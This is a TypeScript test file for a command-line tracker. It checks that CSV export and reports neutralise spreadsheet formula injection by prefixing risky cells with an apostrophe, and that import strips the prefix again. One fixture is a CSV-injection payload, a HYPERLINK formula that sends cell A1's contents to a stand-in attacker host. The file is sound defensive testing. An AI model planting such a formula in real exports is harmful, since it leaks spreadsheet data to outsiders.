import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { csvCellText, csvCellValue } from '../../services/cli/csv.ts';
import { runCli, tempDataDir } from './cli-process.ts';

const data = tempDataDir();
afterAll(() => data.remove());

const file = (name: string, text: string): string => data.file(name, text);

/** Text a spreadsheet would run as a formula, as OWASP lists the leading characters. */
const formulas = {
  description: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  mitigation: ['+1+2 adds up', '-2+3', '@SUM(A1:A9)'],
  action: '=1+1 is how the tracker adds up',
};
const formulaStart = /^[=+\-@\t\r]/;

async function cli(...args: string[]) {
  const result = await runCli(args, data.env);
  expect(result.code, result.stderr).toBe(0);
  return result.stdout;
}

const cellsOf = (csv: string): string[][] => parse(csv, { relax_column_count: true });

describe('CSV cells a spreadsheet would run as formulas', () => {
  it("are written as text (prefixed with ') by export and by the movement report, and import reads the prefix back off", async () => {
    await cli(
      'import',
      file(
        'formulas.json',
        JSON.stringify([
          { command: 'ScheduleMeeting', number: 40, date: '2024-11-27' },
          { command: 'HoldMeeting', number: 40, heldOn: '2024-11-27' },
          {
            command: 'RaiseRisk',
            riskId: 'R4000',
            description: formulas.description,
            score: 12,
            mitigationPlan: formulas.mitigation,
            raisedOn: '2024-11-28',
          },
          { command: 'RaiseAction', ref: 'CCAG40-01', raisedOn: '2024-11-28', text: formulas.action, owner: { party: '@Programme' } },
        ]),
      ),
    );

    const risks = cellsOf(await cli('export', '--format', 'csv', '--kind', 'risk'));
    const header = risks[0]!;
    const risk = risks.find((row) => row[header.indexOf('riskId')] === 'R4000')!;
    expect(risk[header.indexOf('description')]).toBe(`'${formulas.description}`);
    expect(risk[header.indexOf('mitigationPlan')]).toBe(`'${formulas.mitigation.join(' | ')}`);
    const actions = cellsOf(await cli('export', '--format', 'csv', '--kind', 'action'));
    const action = actions.find((row) => row.includes('CCAG40-01'))!;
    expect(action).toContain(`'${formulas.action}`);

    const report = cellsOf(await cli('report', 'movement', '--from', 'meeting:40', '--format', 'csv'));
    const reportCells = report.flat();
    expect(reportCells.some((cell) => cell.includes(formulas.description))).toBe(true);
    expect(reportCells.filter((cell) => formulaStart.test(cell))).toEqual([]);
    for (const table of [risks, actions]) expect(table.flat().filter((cell) => formulaStart.test(cell))).toEqual([]);

    // The exported cell, pasted into an import sheet as it stands, stores the original text.
    const exported = risk[header.indexOf('description')]!;
    await cli(
      'import',
      file('edit.csv', `command,riskId,description\nEditRiskDescription,R4000,"${exported.replaceAll('"', '""')} (again)"\n`),
    );
    const edited = JSON.parse(await cli('export', '--format', 'json', '--kind', 'risk')).items.risk.find((r: any) => r.riskId === 'R4000');
    expect(edited.description).toBe(`${formulas.description} (again)`);
  }, 120_000);

  it('any text survives the prefix and its removal unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (text) => {
        const written = csvCellText(text);
        expect(formulaStart.test(written)).toBe(false);
        expect(csvCellValue(written)).toBe(text);
      }),
    );
    expect(csvCellText("'=already quoted")).toBe("''=already quoted");
    expect(csvCellValue("''=already quoted")).toBe("'=already quoted");
  });
});
